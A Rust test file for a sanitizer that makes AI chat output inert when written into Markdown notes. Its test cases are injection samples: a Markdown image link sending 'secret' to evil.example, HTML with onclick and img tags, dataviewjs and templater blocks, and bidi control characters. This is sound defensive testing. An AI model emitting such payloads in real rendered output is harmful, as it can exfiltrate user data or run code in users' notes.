//! What a model says does nothing by standing in a note.

use toolwrit_chat::format::{BlockId, Header, Inert, Kind, State, Status};

fn inert(words: &str) -> String {
    Inert::default().words(words)
}

#[test]
fn what_acts_is_broken() {
    let cases = [
        ("![x](https://evil.example/?q=secret)", "&#33;[x](https://evil.example/?q=secret)"),
        ("\\![x](a.png) \\\\![x](a.png)", "&#33;[x](a.png) \\\\&#33;[x](a.png)"),
        ("![x](pictures/a.png) and ![[Note]]", "&#33;[x](pictures/a.png) and &#33;[[Note]]"),
        ("<img src=x> \\<img src=x>", "&lt;img src=x> &lt;img src=x>"),
        ("a <b>bold</b> <https://ok.example> 1 < 2", "a <b>bold</b> <https://ok.example> 1 < 2"),
        ("<b>\n<b onclick=x>", "&lt;b>\n&lt;b onclick=x>"),
        ("```dataviewjs\ndv.x()\n```", "```text dataviewjs\ndv.x()\n```"),
        ("```Mermaid\nx\n```", "```text Mermaid\nx\n```"),
        ("- ```dataviewjs\n  x\n  ```", "-\n```text dataviewjs\nx\n```"),
        ("> ~~~ DataviewJS\n> x", "~~~text DataviewJS\nx\n~~~"),
        ("```rust\nlet a = b < c;\n// <img>\n```", "```rust\nlet a = b < c;\n// <img>\n```"),
        ("1. a\n\n   ```js\n   x<b>\n   ```", "1. a\n\n   ```js\n   x<b>\n   ```"),
        ("10. a\n\n    ```js\n    x<b>\n    ```", "10. a\n\n```js\nx<b>\n```"),
        ("`= this.file`", "&#96;= this.file&#96;"),
        ("`$= dv.x()`", "&#96;&#36;= dv.x()&#96;"),
        ("``INPUT[x]``", "&#96;&#96;INPUT[x]&#96;&#96;"),
        ("`a ` = b", "`a ` = b"),
        ("`<img>` is code", "`<img>` is code"),
        ("$`$ <img src=x> `", "&#36;&#96;&#36; &lt;img src=x> &#96;"),
        ("a ` b\n` <img src=x> `", "a &#96; b\n` <img src=x> `"),
        ("$a<b$ costs $5", "$a< b$ costs $5"),
        ("<% tp.x %>", "&lt;% tp.x %>"),
        ("```js\n<% tp.x %>\n```", "```js\n< % tp.x %>\n```"),
        ("%%hidden%%", "% %hidden% %"),
        ("a\rb\u{2028}c\u{202e}d\u{7}", "a\nb\ncd"),
        ("- a\n  ```\n<img src=x>\n  ```", "- a\n```\n<img src=x>\n```"),
        ("[a](<my file.md>)", "[a](my%20file.md)"),
    ];
    for (words, expected) in cases {
        assert_eq!(inert(words), expected, "{words}");
    }
}

#[test]
fn operators_choose_which_blocks_execute() {
    let inert = Inert { executing: vec!["py*".to_owned()] };
    assert_eq!(inert.words("```python\nx\n```"), "```text python\nx\n```");
    assert_eq!(inert.words("```rust\nx\n```"), "```rust\nx\n```");
}

/// Models make up names of tools, and providers messages.
#[test]
fn nothing_acts_in_a_header() {
    let acting =
        "$= x `= y` ![x](https://evil.example) ![[a]] <img src=x> <% tp %> %% \u{202e} \r\n> z %%%";
    let header = |text: &str| {
        let state = State::new(Status::Failed("UPSTREAM_ERROR".to_owned()), text);
        Header::new(Kind::Tool, BlockId::from_number(1), text, state)
    };
    let shown = header(acting).to_string();
    assert_eq!(
        shown,
        "> [!tool|aaaaaaaab]- `__ x __ y_ __x__https://evil.example_ ___a__ _img src_x_ __ tp __ __ _ ___ z ___` · \
         UPSTREAM_ERROR, $= x = y !(x)(https://evil.example) !((a)) ‹img src=x› ‹% tp %› %  › z %"
    );
    let again = Header::new(
        Kind::Tool,
        BlockId::from_number(1),
        &header(acting).name,
        header(acting).state,
    );
    assert_eq!(again.to_string(), shown);
}
